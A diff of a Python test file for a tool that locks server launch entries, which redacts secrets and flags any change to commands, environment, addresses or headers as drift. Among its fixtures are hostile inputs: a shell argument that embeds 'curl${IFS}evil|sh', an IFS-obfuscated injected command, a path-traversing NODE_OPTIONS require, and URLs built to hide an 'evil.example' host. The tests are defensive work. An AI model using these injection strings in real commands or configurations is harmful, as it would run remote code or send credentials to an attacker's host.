@@ -1,5 +1,6 @@
 """Tests for what the lock file records of a server: everything that decides what runs, but no possible secret."""
 
+import re
 from pathlib import Path
 from typing import Any, cast
 
@@ -21,23 +22,118 @@ def locked(**entry: Any) -> LockedServer:
     return lock_entry(server, entry)
 
 
+def without_digest(text: str) -> str:
+    """Return a recorded text with `(#)` in the place of its digest."""
+    return re.sub(r"\([0-9a-f]{32}\)", "(#)", text)
+
+
 @pytest.mark.parametrize(
     ("arguments", "shown"),
     [
-        (["--token", "abc"], ["--token", "[hidden]"]),
-        (["--api-key=abc"], ["--api-key=[hidden]"]),
+        (["--token", "abc"], ["--token", "[hidden] (#)"]),
+        (["--api-key=abc"], ["--api-key=[hidden] (#)"]),
         (["--token", "${env:TOKEN}"], ["--token", "${env:TOKEN}"]),
         (["--token", "--verbose"], ["--token", "--verbose"]),
         (["--auth", "./auth.json"], ["--auth", "./auth.json"]),
         (["--header", "Authorization: Bearer ${env:A}"], ["--header", "Authorization: Bearer ${env:A}"]),
-        (["https://ada:${env:A}@db.example.com"], ["https://[secret]@db.example.com (${env:A})"]),
-        (["--password=a", "token=${env:A}"], ["--password=[hidden]", "token=[secret] (${env:A})"]),
-        (["--db", "https://ada:pass@db.example.com"], ["--db", "https://[secret]@db.example.com"]),
+        (
+            ["https://ada:${env:A}@db.example.com"],
+            ["https://[secret]@db.example.com (#) (${env:A}) (https://db.example.com)"],
+        ),
+        (["--password=a", "token=${env:A}"], ["--password=[hidden] (#)", "token=[secret] (#) (${env:A})"]),
+        (
+            ["--db", "https://ada:pass@DB.example.com:81/x"],
+            ["--db", "https://[secret]@DB.example.com:81/x (#) (https://db.example.com:81)"],
+        ),
+        (["http://a.example;token=abcdefgh"], ["http://a.example;token=[secret] (#)"]),
+        ([f"http://{RANDOM}.example?token=abcdefgh"], ["http://[hidden].example?token=[secret] (#)"]),
         (["-y", "files@1.0.0", "."], ["-y", "files@1.0.0", "."]),
     ],
 )
 def test_secrets_in_arguments_are_hidden(arguments: list[str], shown: list[str]) -> None:
-    assert list(locked(command="run", args=arguments).command[1:]) == shown
+    assert [without_digest(word) for word in locked(command="run", args=arguments).command[1:]] == shown
+
+
+SHELL = {"command": "sh", "args": ["-c", "cd /srv;state=ready;exec server"]}
+NODE = {"command": "node", "args": ["s.js", "--token-program=helper1"]}
+ADDRESS = {"url": "https://ada:pass@good.example/mcp?token=abcdefgh"}
+
+
+@pytest.mark.parametrize(
+    ("entry", "changed", "kind"),
+    [
+        (SHELL, {"args": ["-c", "cd /srv;state=ready;touch$IFS/tmp/x;exec server"]}, "command"),
+        (SHELL, {"args": ["-c", "cd /srv;state=$(curl${IFS}evil|sh);exec server"]}, "command"),
+        (NODE, {"args": ["s.js", "--token-program=helper2"]}, "command"),
+        (
+            {**NODE, "args": ["--api-key", "one-key-value"]},
+            {"args": ["--api-key", "other-key-value"]},
+            "command",
+        ),
+        (
+            {"command": "uvx", "args": ["files@1.0;token=abcdefgh"]},
+            {"args": ["files@1.0;token=abcdefgi"]},
+            "command",
+        ),
+        (
+            {**NODE, "env": {"NODE_OPTIONS": "--require ./token=abcdefgh"}},
+            {"env": {"NODE_OPTIONS": "--require ./token=/../../../tmp/evil"}},
+            "environment",
+        ),
+        (
+            {**NODE, "env": {"GIT_ASKPASS": "a;token=abcdefgh"}},
+            {"env": {"GIT_ASKPASS": "a;token=zzzzzzzzzz"}},
+            "environment",
+        ),
+        (
+            {**NODE, "env": {"API": "https://ada:pass@good.example"}},
+            {"env": {"API": "https://ada:word@good.example"}},
+            "environment",
+        ),
+        (
+            {**NODE, "env": {"DB_AUTH": "host=good.example password=${env:P}"}},
+            {"env": {"DB_AUTH": "host=evil.example password=${env:P}"}},
+            "environment",
+        ),
+        (
+            {**NODE, "env": {"DSN": "a;token=good.example;${env:P}"}},
+            {"env": {"DSN": "a;token=evil.example;${env:P}"}},
+            "environment",
+        ),
+        (ADDRESS, {"url": "https://evil.example?x@good.example/mcp?token=abcdefgh"}, "address"),
+        (ADDRESS, {"url": "https://evil.example#x@good.example/mcp?token=abcdefgh"}, "address"),
+        (ADDRESS, {"url": "https://ada:word@good.example/mcp?token=abcdefgh"}, "address"),
+        (ADDRESS, {"url": "https://ada:pass@good.example/mcp?token=/../evil"}, "address"),
+        (
+            {**ADDRESS, "headers": {"X-Origin": "https://good.example?token=abcdefgh"}},
+            {"headers": {"X-Origin": "https://good.example?token=abcdefgi"}},
+            "headers",
+        ),
+        (
+            {**ADDRESS, "headers": {"X-Token": "good ${env:A}"}},
+            {"headers": {"X-Token": "evil ${env:A}"}},
+            "headers",
+        ),
+    ],
+)  # fmt: skip
+def test_a_change_of_text_that_looks_like_a_secret_is_drift(
+    entry: dict[str, Any], changed: dict[str, Any], kind: str
+) -> None:
+    assert compare_entries("s", locked(**entry), locked(**entry)) == ()
+    assert [drift.kind for drift in compare_entries("s", locked(**entry), locked(**{**entry, **changed}))] == [kind]
+
+
+@pytest.mark.parametrize("entry", [SHELL, {"command": "run", "args": ["--token", "abc"]}])
+def test_no_text_can_pose_as_its_hidden_form(entry: dict[str, Any]) -> None:
+    before = locked(**entry)
+    posing = locked(command=entry["command"], args=list(before.command[1:]))
+    assert [drift.kind for drift in compare_entries("s", before, posing)] == ["command"]
+
+
+def test_the_host_of_an_address_is_recorded_beside_its_redacted_form() -> None:
+    url = locked(url="https://ada:pass@evil.example:8443?x@good.example/mcp").url
+    assert url.endswith(" (https://evil.example:8443)")
+    assert "pass" not in url
 
 
 def test_a_random_word_is_hidden_and_its_change_is_still_drift() -> None:
@@ -61,19 +157,27 @@ def test_an_image_is_shown_with_its_digest() -> None:
     [
         ("MODE", "fast", NOT_LOCKED),
         ("TOKEN", "${env:TOKEN}", "${env:TOKEN}"),
-        ("TOKEN", "${TOKEN:-abcdef}", "${TOKEN}"),
-        ("TOKEN", "x${env:TOKEN}", f"{NOT_LOCKED}${{env:TOKEN}}"),
+        ("TOKEN", "${TOKEN:-abcdef}", "${TOKEN} (#)"),
+        ("TOKEN", "x${env:TOKEN}", f"{NOT_LOCKED}${{env:TOKEN}} (#)"),
         ("TOKEN", "${odd!text}", NOT_LOCKED),
         ("AUTHORIZATION", "Bearer ${env:TOKEN}", "Bearer ${env:TOKEN}"),
         ("API", "https://api.example.com/v1", "https://api.example.com/v1"),
-        ("API", "https://ada:${env:TOKEN}@api.example.com", "https://[secret]@api.example.com (${env:TOKEN})"),
+        (
+            "API",
+            "https://ada:${env:TOKEN}@api.example.com",
+            "https://[secret]@api.example.com (#) (${env:TOKEN}) (https://api.example.com)",
+        ),
         ("NODE_OPTIONS", "${env:NO_SUCH:---require ./x.js}", "${env:NO_SUCH:---require ./x.js}"),
         ("NODE_OPTIONS", "--require ./x.js", "--require ./x.js"),
-        ("HTTPS_PROXY", "http://ada:pass@proxy.example.com", "http://[secret]@proxy.example.com"),
+        (
+            "HTTPS_PROXY",
+            "http://ada:pass@proxy.example.com",
+            "http://[secret]@proxy.example.com (#) (http://proxy.example.com)",
+        ),
     ],
 )
 def test_only_references_and_values_that_decide_what_runs_are_recorded(name: str, value: str, shown: str) -> None:
-    assert locked(command="run", env={name: value}).env == {name: shown}
+    assert without_digest(locked(command="run", env={name: value}).env[name]) == shown
 
 
 def test_a_thousand_hidden_words_take_no_time() -> None:
@@ -110,8 +214,31 @@ def test_variables_of_the_environment_file_are_recorded_like_those_of_env(tmp_pa
         "TOKEN": NOT_LOCKED,
         "MODE": NOT_LOCKED,
         "LD_PRELOAD": "/lib/x.so",
-        "API": "https://[secret]@api.example.com",
+        "API": "https://[secret]@api.example.com (https://api.example.com)",
     }
+
+
+@pytest.mark.parametrize(
+    ("before", "after", "kinds"),
+    [
+        ("API=https://ada:pass@good.example/v1", "API=https://bob:word@good.example/v1", []),
+        ("HTTPS_PROXY=http://ada:pass@good.example:81", "HTTPS_PROXY=http://bob:word@good.example:81", []),
+        ("API=https://ada:pass@good.example/v1", "API=https://ada:pass@evil.example/v1", ["environment"]),
+        ("API=https://ada:pass@good.example:81", "API=https://ada:pass@good.example:82", ["environment"]),
+        ("API=https://good.example?token=https://a", "API=https://good.example?token=https://b", ["environment"]),
+        ("API=https://good.example?token=https://[a", "API=https://good.example?token=https://[b", ["environment"]),
+        ("PIP_INDEX_URL=https://ada:pass@a/simple/", "PIP_INDEX_URL=https://bob:word@a/simple/", []),
+        ("PIP_INDEX_URL=https://ada:pass@a/simple/", "PIP_INDEX_URL=https://ada:pass@b/simple/", ["environment"]),
+        ("PIP_INDEX_URL=https://a/?token=abcdef/", "PIP_INDEX_URL=https://a/?token=abcdeg/", ["environment"]),
+        ("NODE_OPTIONS=--require ./token=abcdef", "NODE_OPTIONS=--require ./token=abcdeg", ["environment"]),
+        ("SSL_CERT_FILE=/x/token=abcdef", "SSL_CERT_FILE=/x/token=abcdeg", ["environment"]),
+    ],
+)
+def test_of_an_address_in_the_environment_file_only_the_secret_is_not_compared(
+    tmp_path: Path, before: str, after: str, kinds: list[str]
+) -> None:
+    drifts = compare_entries("s", locked_file(tmp_path, before), locked_file(tmp_path, after))
+    assert [drift.kind for drift in drifts] == kinds
 
 
 @pytest.mark.parametrize(
